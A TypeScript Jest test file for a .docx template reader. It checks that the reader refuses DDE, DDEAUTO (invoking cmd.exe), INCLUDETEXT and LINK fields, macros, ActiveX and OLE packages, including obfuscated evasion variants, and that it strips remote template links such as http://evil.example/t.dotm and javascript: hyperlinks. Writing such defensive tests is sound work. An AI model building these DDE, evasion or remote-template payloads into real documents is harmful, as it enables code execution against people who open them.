import { describe, expect, test } from '@jest/globals'
import { readTemplate } from './template'
import { docx, paragraph, type TestRelationship } from '../test-support/files'

const field = (...texts: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${texts.map((text) => `<w:r><w:instrText>${text}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`

async function refusals(body: string, parts: Parameters<typeof docx>[1] = {}) {
  const { problems } = await readTemplate(docx(paragraph('{a}') + body, parts))
  return problems.map(({ code, paragraph: index, params }) => [code, params.kind, params.name, index])
}

describe('a template is refused', () => {
  test.each([
    ['DDE', field(' DDE Excel "C:\\a.xls" R1C1 ')],
    ['DDEAUTO', field('DDE', 'AUTO c:\\\\windows\\\\cmd.exe')],
    [
      'INCLUDETEXT',
      '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;x&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>',
    ],
    ['INCLUDEPICTURE', "<w:p><w:fldSimple w:instr='includepicture x'/></w:p>"],
    ['LINK', field(' &#76;INK Excel.Sheet ')],
    ['DDE', field('D<!-- -->D<?x y?>E x')],
    ['DDE', field('D', '<![CDATA[DE]]>')],
    ['DDE', field('DDE').replace('<w:instrText>', '<!--<w:fldChar w:fldCharType="separate"/>--><w:instrText>')],
    ['DDE', field('DDE').replaceAll('w:instrText', 'w:t')],
    [
      'DDE',
      field('DDE').replace('w:fldCharType="begin"', `xmlns:x="x" x:y=" fldCharType='end'" w:fldCharType="begin"`),
    ],
    [
      '{ }',
      field('DDE').replace(
        'w:fldChar w:fldCharType="begin"',
        'w:fldChar xmlns:x="x" xmlns:y="y" x:fldCharType="end" y:fldCharType="begin"',
      ),
    ],
    [
      '{ }',
      field('').replace(
        '<w:instrText></w:instrText>',
        '<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/>',
      ),
    ],
  ])('for the field %s, with its paragraph', async (name, body) => {
    expect(await refusals(body)).toEqual([['TEMPLATE_ACTIVE_CONTENT', 'field', name, 1]])
  })

  test.each([
    ['macros', 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vbaProject.bin'],
    ['activeX', 'control', 'activeX/activeX1.xml'],
    ['altChunk', 'aFChunk', 'chunk.html'],
    ['subDocument', 'subDocument', 'other.docx'],
  ])('for %s', async (kind, type, target) => {
    const found = await refusals('', {
      relationships: [{ id: 'r1', type, target }],
      files: { [`word/${target}`]: '<x/>' },
    })
    expect(found).toEqual([['TEMPLATE_ACTIVE_CONTENT', kind, '', null]])
  })

  test('for an element of the text, said to be in the document', async () => {
    const body = '<w:altChunk xmlns:r="r" r:id="r1"/>'
    const { problems } = await readTemplate(docx(body))
    expect(problems.map(({ code, params }) => [code, params.where])).toEqual([['TEMPLATE_ACTIVE_CONTENT', 'document']])
  })

  test('not for ordinary fields', async () => {
    expect(await refusals(field(' PAGE ') + field(' MERGEFIELD dde ') + field('IF 1 = 1 "LINK" "DDE"'))).toEqual([])
  })
})

describe('what is stripped', () => {
  async function strip(body: string, relationships: TestRelationship[], files: Record<string, string> = {}) {
    const template = await readTemplate(docx(paragraph('{a}') + body, { relationships, files }))
    expect(template.problems).toEqual([])
    const part = (name: string) => template.cleaned.get(name) ?? ''
    return {
      ...template,
      document: template.tokenised(() => false).get('word/document.xml') ?? '',
      links: part('word/_rels/document.xml.rels'),
    }
  }

  test('a linked picture leads nowhere, and its frame stays', async () => {
    const { document, links, stripped } = await strip('<w:p><w:r><a:blip r:embed="in" r:link="out"/></w:r></w:p>', [
      { id: 'out', type: 'image', target: 'file:///c:/secret.png', external: true },
    ])
    expect(stripped).toEqual([{ part: 'word/document.xml', kind: 'linkedPicture' }])
    expect(document).toContain('<a:blip r:embed="in"/>')
    expect(links).not.toContain('secret')
  })

  test('links to the web and to mail stay, links to files and scripts keep their text alone', async () => {
    const link = (id: string) =>
      `<w:p><w:hyperlink r:id="${id}" w:history="1"><w:r><w:t>${id}</w:t></w:r></w:hyperlink></w:p>`
    const targets = {
      web: 'https://example.org',
      mail: 'mailto:a@example.org',
      file: 'file:///c:/a.exe',
      script: 'javascript:alert(1)',
    }
    const { document, links } = await strip(
      Object.keys(targets).map(link).join(''),
      Object.entries(targets).map(([id, target]) => ({ id, type: 'hyperlink', target, external: true })),
    )
    expect(document).toContain('<w:hyperlink r:id="web"')
    expect(document).toContain('<w:hyperlink r:id="mail"')
    expect(document).toContain('<w:hyperlink w:history="1"><w:r><w:t>script')
    expect(links).not.toMatch(/javascript|a\.exe/)
  })

  test('an embedded object goes with its part, its picture stays', async () => {
    const object =
      '<w:p><w:r><w:object><w:pict/><o:OLEObject Type="Embed" ProgID="Package" r:id="ole"/></w:object></w:r></w:p>'
    const { document, removed } = await strip(
      object,
      [{ id: 'ole', type: 'oleObject', target: 'embeddings/oleObject1.bin' }],
      {
        'word/embeddings/oleObject1.bin': 'x',
      },
    )
    expect([...removed]).toEqual(['word/embeddings/oleObject1.bin'])
    expect(document).toContain('<w:object><w:pict/></w:object>')
  })

  test('an attached template and a mail-merge source are forgotten by the settings', async () => {
    const settings = `<w:settings xmlns:w="w" xmlns:r="r"><w:attachedTemplate r:id="t"/><w:mailMerge><w:query w:val="x"/><w:dataSource r:id="m"/></w:mailMerge><w:zoom/></w:settings>`
    const rels = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/><Relationship Id="m" Type="http://x/mailMergeSource" Target="file:///db" TargetMode="External"/></Relationships>`
    const { cleaned, stripped } = await strip('', [{ id: 's', type: 'settings', target: 'settings.xml' }], {
      'word/settings.xml': settings,
      'word/_rels/settings.xml.rels': rels,
    })
    expect(stripped.map(({ kind }) => kind).sort()).toEqual(['attachedTemplate', 'mailMerge'])
    expect(cleaned.get('word/settings.xml')).toBe('<w:settings xmlns:w="w" xmlns:r="r"><w:zoom/></w:settings>')
    expect(cleaned.get('word/_rels/settings.xml.rels')).not.toContain('Target=')
  })
})
